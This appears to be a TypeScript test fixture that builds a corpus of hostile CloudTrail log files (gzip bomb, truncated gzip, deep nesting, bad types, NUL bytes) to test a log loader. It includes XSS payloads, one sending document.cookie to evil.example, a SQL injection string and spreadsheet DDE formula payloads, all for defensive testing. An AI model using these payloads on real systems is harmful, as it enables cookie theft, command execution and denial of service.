/**
 * A corpus of hostile trail files, made by code into a folder laid out as a trail bucket
 * copy (`AWSLogs/<account>/CloudTrail/<region>/YYYY/MM/DD/<name>.json.gz`). Each hostile
 * case sits in its own file, between good files, and every file says what loading it must
 * give: the problems reported against it and the events that must be stored from it.
 *
 * File names carry the delivery time, and the loader reads the newest delivery first, so
 * the order of `files` (newest first) is the order they are read in with one reader.
 */
import { createWriteStream } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { once } from "node:events";
import { constants, createGzip, gunzipSync, gzipSync } from "node:zlib";
import { eventIdOf } from "@/lib/cloudtrail/normalize";
import type { ProblemKind } from "@/lib/cloudtrail/problem-schema";

const ACCOUNT = "111122223333";
const REGION = "us-east-1";
const DAY = "2026-11-20";
/** The range that holds every event of the corpus. */
export const CORPUS_RANGE = { from: `${DAY}T00:00:00.000Z`, to: `${DAY}T23:59:59.999Z` };

export type Json = Record<string, unknown>;

export interface CorpusFile {
  /** Path relative to the corpus root: the `file` of its problems and the `key` of its origins. */
  key: string;
  /** What is hostile about it. */
  about: string;
  /** The kinds of error reported against this file, exactly (empty for a good file). */
  errors: ProblemKind[];
  /** eventIDs of the records that must be stored from this file. */
  storedIds: string[];
  /** Records that must read back from the store exactly as written (a sample for large files). */
  readBack: Json[];
}

export interface Corpus {
  root: string;
  files: CorpusFile[];
  /** Every eventID that must be in the store, each once. */
  expectedIds: Set<string>;
  /** The records carrying spreadsheet formulas, and the payload each carries. */
  formulaRecords: { record: Json; payload: string }[];
  /** Bytes the bomb and the large file decompress to. */
  sizes: { bomb: number; large: number };
}

export interface CorpusOptions {
  /** The reader's maxDecompressedBytes in the test: the bomb expands well past it. */
  maxDecompressedBytes: number;
  /** Uncompressed size of the large (valid) file; it must stay under maxDecompressedBytes. */
  largeFileBytes: number;
}

const pad = (n: number, width = 2) => String(n).padStart(width, "0");

/** An eventID unique to a file (its number) and a record in it. */
const eventId = (file: number, n: number) => `${pad(file, 8)}-0000-4000-8000-${pad(n, 12)}`;

function fileKey(hhmm: string, slug: string, extension = ".json.gz"): string {
  const tag = slug.padEnd(16, "0").slice(0, 16);
  return [
    "AWSLogs",
    ACCOUNT,
    "CloudTrail",
    REGION,
    ...DAY.split("-"),
    `${ACCOUNT}_CloudTrail_${REGION}_${DAY.replace(/-/g, "")}T${hhmm}Z_${tag}${extension}`,
  ].join("/");
}

/** A plausible management record delivered in the file of `hhmm`. */
function goodRecord(file: number, n: number, hhmm: string, extra: Json = {}): Json {
  const hour = Number(hhmm.slice(0, 2));
  const minute = Number(hhmm.slice(2)) - 5;
  const time = new Date(Date.UTC(2026, 10, 20, hour, minute, n % 60, n % 1000));
  return {
    eventVersion: "1.11",
    userIdentity: {
      type: "IAMUser",
      principalId: "AIDAEXAMPLE000000001",
      arn: `arn:aws:iam::${ACCOUNT}:user/alice`,
      accountId: ACCOUNT,
      accessKeyId: "AKIAEXAMPLE000000001",
      userName: "alice",
    },
    eventTime: time.toISOString().replace(".000Z", "Z"),
    eventSource: "ec2.amazonaws.com",
    eventName: n % 2 ? "DescribeInstances" : "RunInstances",
    awsRegion: REGION,
    sourceIPAddress: "198.51.100.7",
    userAgent: "aws-cli/2.22.9 md/awscrt#0.22.0 ua/2.0 os/linux#6.1 lang/python#3.12.6",
    requestParameters: { instancesSet: { items: [{ instanceId: `i-0${pad(n, 16)}` }] } },
    responseElements: null,
    requestID: `req-${eventId(file, n)}`,
    eventID: eventId(file, n),
    readOnly: n % 2 === 1,
    eventType: "AwsApiCall",
    managementEvent: true,
    recipientAccountId: ACCOUNT,
    eventCategory: "Management",
    ...extra,
  };
}

const wrap = (records: unknown[]) => JSON.stringify({ Records: records });

/** Replaces every string leaf but eventTime with `text(leafPath)`. */
function everyString(value: unknown, text: (where: string) => string, where = ""): unknown {
  if (typeof value === "string") return where === "eventTime" ? value : text(where);
  if (Array.isArray(value)) return value.map((v, i) => everyString(v, text, `${where}[${i}]`));
  if (value !== null && typeof value === "object") {
    return Object.fromEntries(
      Object.entries(value).map(([k, v]) => [k, everyString(v, text, where ? `${where}.${k}` : k)]),
    );
  }
  return value;
}

const HTML_PAYLOADS = [
  `<script>alert("xss")</script>`,
  `"><img src=x onerror=alert(document.cookie)>`,
  `javascript:alert(1)//`,
  `</textarea></script><svg/onload=fetch('//evil.example/'+document.cookie)>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `'); DROP TABLE events; --`,
  `<iframe srcdoc="<script>parent.alert(1)</script>">`,
  `\u202Egnp.exe\u202C <b>bold</b> &amp; &lt;`,
];

/** Cells a spreadsheet would run: =, +, -, @, tab and carriage return first. */
const FORMULA_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=HYPERLINK("http://evil.example","click")`,
];

/** A record whose CSV-exported fields all carry `payload` (the eventID made unique). */
function formulaRecord(file: number, n: number, hhmm: string, payload: string): Json {
  const base = goodRecord(file, n, hhmm);
  return {
    ...base,
    eventID: `${payload}#${n}`,
    eventName: payload,
    eventSource: payload,
    userIdentity: {
      type: payload,
      principalId: payload,
      arn: payload,
      accountId: payload,
      accessKeyId: payload,
      userName: payload,
    },
    recipientAccountId: payload,
    awsRegion: payload,
    sourceIPAddress: payload,
    userAgent: payload,
    errorCode: payload,
    errorMessage: payload,
    requestID: payload,
    sharedEventID: payload,
    resources: [{ ARN: payload, type: payload, accountId: payload }],
  };
}

/** `depth` nested arrays (or objects) as JSON text, built without recursion. */
function nestedJson(depth: number, kind: "array" | "object"): string {
  return kind === "array"
    ? "[".repeat(depth) + "]".repeat(depth)
    : '{"a":'.repeat(depth) + "null" + "}".repeat(depth);
}

/** A record's JSON with one value replaced by raw JSON text (too deep to build as an object). */
function withRawValue(record: Json, field: string, rawJson: string): string {
  const marker = `__raw_${field}__`;
  return JSON.stringify({ ...record, [field]: marker }).replace(JSON.stringify(marker), rawJson);
}

/**
 * Writes the large file as a gzip stream: records with well-compressible padding until
 * `bytes` of JSON. Returns the eventIDs written.
 */
async function writeLargeFile(
  full: string,
  file: number,
  hhmm: string,
  bytes: number,
): Promise<{ ids: string[]; size: number; sample: Json[] }> {
  const gzip = createGzip({ level: 1, chunkSize: 1 << 20 });
  const out = createWriteStream(full);
  gzip.pipe(out);
  const write = async (text: string) => {
    if (!gzip.write(text)) await once(gzip, "drain");
  };
  const ids: string[] = [];
  const sample: Json[] = [];
  const padding = "x".repeat(7_000);
  let size = 0;
  await write('{"Records":[');
  size += 12;
  for (let n = 0; size < bytes - 10_000; n++) {
    const record = goodRecord(file, n, hhmm, {
      requestParameters: { note: `large file record ${n}`, padding },
    });
    const text = (n === 0 ? "" : ",") + JSON.stringify(record);
    await write(text);
    size += Buffer.byteLength(text);
    ids.push(String(record.eventID));
    if (n % 5_000 === 0) sample.push(record);
  }
  await write("]}");
  size += 2;
  gzip.end();
  await once(out, "close");
  return { ids, size, sample };
}

/**
 * A gzip bomb: a valid start (one record), then whitespace inside the array until the
 * output passes `bytes`, compressed about 1000:1.
 */
async function writeBomb(full: string, record: Json, bytes: number): Promise<number> {
  const gzip = createGzip({ level: 9, chunkSize: 1 << 20 });
  const out = createWriteStream(full);
  gzip.pipe(out);
  const spaces = Buffer.alloc(4 << 20, 0x20);
  let size = 0;
  const write = async (chunk: Buffer | string) => {
    size += Buffer.byteLength(chunk);
    if (!gzip.write(chunk)) await once(gzip, "drain");
  };
  await write(`{"Records":[${JSON.stringify(record)},`);
  while (size < bytes) await write(spaces);
  await write(`${JSON.stringify(record)}]}`);
  gzip.end();
  await once(out, "close");
  return size;
}

/** Builds the corpus under `root`. */
export async function buildCorpus(root: string, options: CorpusOptions): Promise<Corpus> {
  const files: CorpusFile[] = [];
  const formulaRecords: Corpus["formulaRecords"] = [];
  const sizes = { bomb: 0, large: 0 };
  let fileNumber = 0;

  const add = async (
    hhmm: string,
    slug: string,
    about: string,
    content: Buffer | ((full: string) => Promise<Omit<CorpusFile, "key" | "about">>),
    expected: Omit<CorpusFile, "key" | "about"> = { errors: [], storedIds: [], readBack: [] },
    extension = ".json.gz",
  ) => {
    const key = fileKey(hhmm, slug, extension);
    const full = path.join(root, ...key.split("/"));
    await mkdir(path.dirname(full), { recursive: true });
    if (Buffer.isBuffer(content)) {
      await writeFile(full, content);
      files.push({ key, about, ...expected });
    } else {
      files.push({ key, about, ...(await content(full)) });
    }
  };

  const goodFile = async (hhmm: string, slug: string, count: number, gzip = true) => {
    const file = ++fileNumber;
    const records = Array.from({ length: count }, (_, n) => goodRecord(file, n, hhmm));
    const text = wrap(records);
    await add(
      hhmm,
      slug,
      "a good file",
      gzip ? gzipSync(text) : Buffer.from(text),
      { errors: [], storedIds: records.map((r) => String(r.eventID)), readBack: records },
      gzip ? ".json.gz" : ".json",
    );
  };

  await goodFile("2355", "goodfirst", 25);

  // Not gzip at all: a ZIP archive's first bytes, named .json.gz.
  await add(
    "2350",
    "notgzip",
    "not gzip, not JSON (a ZIP header)",
    Buffer.concat([
      Buffer.from("PK\u0003\u0004\u0014\u0000\u0008\u0000", "latin1"),
      Buffer.alloc(200, 7),
    ]),
    { errors: ["not-gzip"], storedIds: [], readBack: [] },
  );

  // Truncated gzip: the first half of a good file's bytes.
  {
    const file = ++fileNumber;
    const records = Array.from({ length: 400 }, (_, n) =>
      goodRecord(file, n, "2345", {
        requestParameters: { note: `truncated ${n} ${"z".repeat(n)}` },
      }),
    );
    const text = wrap(records);
    const whole = gzipSync(text);
    const cut = whole.subarray(0, Math.floor(whole.length / 2));
    // What decodes before the cut: the records that end inside it are kept.
    const decodable = gunzipSync(cut, { finishFlush: constants.Z_SYNC_FLUSH }).length;
    const kept: Json[] = [];
    let end = '{"Records":['.length;
    for (const [n, record] of records.entries()) {
      end += (n === 0 ? 0 : 1) + JSON.stringify(record).length;
      if (end <= decodable) kept.push(record);
    }
    await add("2345", "truncatedgzip", "a gzip file cut in half", Buffer.from(cut), {
      errors: ["truncated-gzip"],
      storedIds: kept.map((r) => String(r.eventID)),
      readBack: kept.slice(0, 3),
    });
  }

  // Gzip bomb: ~1 MB expanding past four times the limit.
  {
    const file = ++fileNumber;
    const record = goodRecord(file, 0, "2340");
    await add("2340", "gzipbomb", "a gzip bomb", async (full) => {
      sizes.bomb = await writeBomb(full, record, options.maxDecompressedBytes * 4);
      return { errors: ["too-large"], storedIds: [String(record.eventID)], readBack: [record] };
    });
  }

  // The large file: valid records until largeFileBytes.
  {
    const file = ++fileNumber;
    await add("2335", "largefile", "a very large valid file", async (full) => {
      const { ids, size, sample } = await writeLargeFile(
        full,
        file,
        "2335",
        options.largeFileBytes,
      );
      sizes.large = size;
      return { errors: [], storedIds: ids, readBack: sample };
    });
  }

  // Invalid JSON: one broken record between good ones, and a file that is no JSON at all.
  {
    const file = ++fileNumber;
    const before = goodRecord(file, 0, "2330");
    const after = goodRecord(file, 2, "2330");
    const broken = JSON.stringify(goodRecord(file, 1, "2330")).replace(
      '"eventName":',
      '"eventName": oops, "x":',
    );
    const text = `{"Records":[${JSON.stringify(before)},${broken},${JSON.stringify(after)}]}`;
    await add("2330", "invalidjson", "a record that is not valid JSON", gzipSync(text), {
      errors: ["invalid-json"],
      storedIds: [String(before.eventID), String(after.eventID)],
      readBack: [before, after],
    });
    await add(
      "2329",
      "notjson",
      "gzip of text that is not JSON",
      gzipSync("Records: this is a log line, not JSON {\n"),
      { errors: ["invalid-json"], storedIds: [], readBack: [] },
    );
  }

  // Deeply nested JSON: 100,000 nested arrays, and as many nested objects, in requestParameters.
  {
    const file = ++fileNumber;
    const good = goodRecord(file, 0, "2325");
    const deepArrays = withRawValue(
      goodRecord(file, 1, "2325"),
      "requestParameters",
      nestedJson(100_000, "array"),
    );
    const deepObjects = withRawValue(
      goodRecord(file, 2, "2325"),
      "responseElements",
      nestedJson(100_000, "object"),
    );
    const last = goodRecord(file, 3, "2325");
    const text = `{"Records":[${JSON.stringify(good)},${deepArrays},${deepObjects},${JSON.stringify(last)}]}`;
    await add("2325", "deepnesting", "records nested 100,000 levels deep", gzipSync(text), {
      errors: ["invalid-record"],
      storedIds: [String(good.eventID), String(last.eventID)],
      readBack: [good, last],
    });
  }

  // HTML and script in every string field (the eventID too).
  {
    const file = ++fileNumber;
    const records = HTML_PAYLOADS.map(
      (payload, n) =>
        everyString(goodRecord(file, n, "2320"), (where) =>
          where === "eventID" ? `${payload}#${n}` : payload,
        ) as Json,
    );
    await add(
      "2320",
      "htmlscript",
      "HTML and script in every string field",
      gzipSync(wrap(records)),
      {
        errors: [],
        storedIds: records.map((r) => String(r.eventID)),
        readBack: records,
      },
    );
  }

  await goodFile("2317", "goodmiddle", 25);

  // CSV formulas in every exported field.
  {
    const file = ++fileNumber;
    const records = FORMULA_PAYLOADS.map((payload, n) => {
      const record = formulaRecord(file, n, "2315", payload);
      formulaRecords.push({ record, payload });
      return record;
    });
    await add(
      "2315",
      "csvformula",
      "spreadsheet formulas in every field",
      gzipSync(wrap(records)),
      {
        errors: [],
        storedIds: records.map((r) => String(r.eventID)),
        readBack: records,
      },
    );
  }

  // Huge strings: a 5 MB userAgent and a 5 MB error message.
  {
    const file = ++fileNumber;
    const huge = goodRecord(file, 0, "2310", {
      userAgent: `Mozilla/5.0 ${"A".repeat(5 * 1024 * 1024)}`,
      errorCode: "AccessDenied",
      errorMessage: `denied ${"é漢😀".repeat(600_000)}`,
    });
    // A 1 MB eventID (kept under a hash of itself) and 5,000 resources with 1 MB ARNs.
    const longId = goodRecord(file, 1, "2310", { eventID: `id-${"9".repeat(1024 * 1024)}` });
    const manyResources = goodRecord(file, 2, "2310", {
      resources: Array.from({ length: 5_000 }, (_, n) => ({
        ARN: n === 0 ? `arn:aws:s3:::${"b".repeat(1024 * 1024)}` : `arn:aws:s3:::bucket-${n}`,
        type: "AWS::S3::Bucket",
      })),
    });
    const normal = goodRecord(file, 3, "2310");
    const records = [huge, longId, manyResources, normal];
    await add("2310", "hugestrings", "5 MB strings", gzipSync(wrap(records)), {
      errors: [],
      storedIds: records.map((r) => eventIdOf(r)),
      readBack: records,
    });
  }

  // Wrong types for every field.
  {
    const file = ++fileNumber;
    const hhmm = "2305";
    const skipped = [
      // eventTime a number, an object, a date out of every calendar, a year past 9999.
      goodRecord(file, 0, hhmm, { eventTime: 1_795_000_000 }),
      goodRecord(file, 1, hhmm, { eventTime: { $date: "2026-11-20T23:00:00Z" } }),
      goodRecord(file, 2, hhmm, { eventTime: "2026-11-20T25:61:00Z" }),
      goodRecord(file, 3, hhmm, { eventTime: "+275760-09-13T00:00:00.000Z" }),
      goodRecord(file, 4, hhmm, { eventTime: "-000001-01-01T00:00:00.000Z" }),
    ];
    const kept = [
      goodRecord(file, 10, hhmm, {
        userIdentity: "root",
        resources: { ARN: "arn:aws:s3:::bucket", type: "AWS::S3::Bucket" },
        eventName: null,
        eventSource: 42,
        awsRegion: ["us-east-1"],
        sourceIPAddress: { ip: "198.51.100.7" },
        userAgent: 1234,
        readOnly: "maybe",
        errorCode: false,
        errorMessage: ["denied"],
        requestID: { id: 1 },
        recipientAccountId: 111122223333,
        requestParameters: "not an object",
        responseElements: 5,
        additionalEventData: "x",
        eventType: 7,
        eventVersion: 1.08,
        eventCategory: ["Data"],
        managementEvent: "yes",
        sharedEventID: 9,
        insightDetails: "Start",
        tlsDetails: 3,
        sessionCredentialFromConsole: {},
        vpcEndpointId: [],
      }),
      goodRecord(file, 11, hhmm, {
        userIdentity: {
          type: 5,
          arn: ["arn:aws:iam::1:user/x"],
          userName: { name: "x" },
          principalId: null,
          accountId: true,
          accessKeyId: 7,
          sessionContext: "none",
          invokedBy: [],
        },
        resources: [null, 1, "arn:aws:s3:::x", { ARN: 5, type: [], accountId: {} }, []],
      }),
      goodRecord(file, 12, hhmm, {
        userIdentity: {
          type: "AssumedRole",
          arn: "not an arn",
          sessionContext: { sessionIssuer: "role" },
        },
        resources: [],
        eventName: "",
        eventSource: "",
        sourceIPAddress: "999.999.999.999",
      }),
      goodRecord(file, 13, hhmm, { userIdentity: null, resources: null, readOnly: null }),
      goodRecord(file, 14, hhmm, {
        userIdentity: { type: "IdentityCenterUser", onBehalfOf: "alice" },
        additionalEventData: ["UserName"],
        sourceIPAddress: "::ffff:zz",
      }),
    ];
    // An eventID of the wrong type: the event is kept under a hash of its content.
    const numericId = goodRecord(file, 15, hhmm, { eventID: 123456 });
    const text = wrap([...skipped, ...kept, numericId, "a string", 42, null, [1, 2]]);
    await add("2305", "wrongtypes", "wrong types for every field", gzipSync(text), {
      errors: ["missing-event-time", "invalid-record"],
      // The product's documented fallback id: a hash of the record's content.
      storedIds: [...kept.map((r) => String(r.eventID)), eventIdOf(numericId)],
      readBack: [...kept, numericId],
    });
  }

  // NUL: escaped in strings (kept), and as raw bytes (a record that is not valid JSON).
  {
    const file = ++fileNumber;
    const escaped = goodRecord(file, 0, "2300", {
      userAgent: "aws-cli\u0000/2.0",
      eventName: "Get\u0000Object",
      errorMessage: "\u0000\u0000\u0000",
      requestParameters: { "key\u0000": "value\u0000" },
    });
    const rawNul = JSON.stringify(goodRecord(file, 1, "2300")).replace(
      '"aws-cli/',
      '"aws-cli\u0000/',
    );
    const after = goodRecord(file, 2, "2300");
    const text = Buffer.concat([
      Buffer.from(`{"Records":[${JSON.stringify(escaped)},`),
      Buffer.from(rawNul, "utf8"),
      Buffer.from(`,${JSON.stringify(after)}]}`),
    ]);
    expect0(text.includes(0));
    await add("2300", "nulbytes", "NUL characters, escaped and raw", gzipSync(text), {
      errors: ["invalid-json"],
      storedIds: [String(escaped.eventID), String(after.eventID)],
      readBack: [escaped, after],
    });
    await add("2259", "allnul", "a gzip file of NUL bytes", gzipSync(Buffer.alloc(64 * 1024)), {
      errors: ["invalid-json"],
      storedIds: [],
      readBack: [],
    });
  }

  // Lone UTF-16 surrogates (valid JSON escapes, not valid Unicode) and other odd characters.
  {
    const file = ++fileNumber;
    const records = [
      goodRecord(file, 0, "2257", { userAgent: "lone \ud800 high", eventName: "\udfffLow" }),
      goodRecord(file, 1, "2257", {
        errorMessage: "bidi \u202e override, zero\u200bwidth, BOM \ufeff, emoji 👩‍💻, \u2028 line",
        userIdentity: { type: "IAMUser", userName: "\ud83d" },
      }),
    ];
    await add(
      "2257",
      "badunicode",
      "lone surrogates and control characters",
      gzipSync(wrap(records)),
      {
        errors: [],
        storedIds: records.map((r) => String(r.eventID)),
        readBack: records,
      },
    );
  }

  // An eventVersion from the future, with fields nobody knows yet.
  {
    const file = ++fileNumber;
    const records = [0, 1].map((n) =>
      goodRecord(file, n, "2255", {
        eventVersion: "99.0",
        eventCategory: "Quantum",
        futureField: { nested: [1, { deeper: "value" }] },
        userIdentity: { type: "HolographicUser", hologramId: "h-1", userName: "holo" },
      }),
    );
    await add("2255", "futureversion", 'eventVersion "99.0"', gzipSync(wrap(records)), {
      errors: [],
      storedIds: records.map((r) => String(r.eventID)),
      readBack: records,
    });
  }

  await add("2250", "emptygzip", "an empty file named .gz", Buffer.alloc(0), {
    errors: ["not-gzip"],
    storedIds: [],
    readBack: [],
  });

  await goodFile("2245", "goodplain", 10, false);
  await goodFile("2240", "goodlast", 25);

  const expectedIds = new Set(files.flatMap((f) => f.storedIds));
  return { root, files, expectedIds, formulaRecords, sizes };
}

function expect0(condition: boolean): void {
  if (!condition) throw new Error("corpus: a raw NUL byte was lost while building the file");
}
